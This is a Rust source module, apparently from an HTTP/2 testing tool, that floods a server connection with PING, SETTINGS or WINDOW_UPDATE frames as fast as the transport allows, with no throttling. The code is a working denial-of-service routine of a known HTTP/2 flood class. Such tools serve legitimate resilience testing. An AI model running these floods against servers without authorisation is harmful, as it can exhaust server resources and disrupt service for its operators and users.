//! Control-frame floods: PING, SETTINGS or WINDOW_UPDATE frames back to
//! back on one connection, as fast as the transport accepts them. No
//! response throttling: if the server answers every PING, its write queue
//! is part of the attack surface.

use squall_h2_parse::{Setting, SettingPairs, StreamId};
use tokio::io::{AsyncRead, AsyncWrite};

use crate::conn::Conn;

use super::{CtrlFrameKind, Params};

/// Fixed opaque payload for flood PINGs.
pub const PING_PAYLOAD: [u8; 8] = [1, 2, 3, 4, 0, 0, 0, 0];

pub async fn flood<IO: AsyncRead + AsyncWrite + Send + 'static>(
    conn: &mut Conn<IO>,
    kind: CtrlFrameKind,
    params: &Params,
) -> eyre::Result<()> {
    for sent_frames in 0..params.frame_count {
        match kind {
            CtrlFrameKind::Ping => conn.write_ping(false, PING_PAYLOAD).await?,
            // the monotonically increasing value keeps each frame
            // semantically distinct from the previous one
            CtrlFrameKind::Settings => {
                conn.write_settings(SettingPairs(&[(
                    Setting::MaxConcurrentStreams,
                    sent_frames as u32,
                )]))
                .await?
            }
            CtrlFrameKind::WindowUpdate => {
                conn.write_window_update(StreamId::CONNECTION, 1).await?
            }
        }
    }

    Ok(())
}
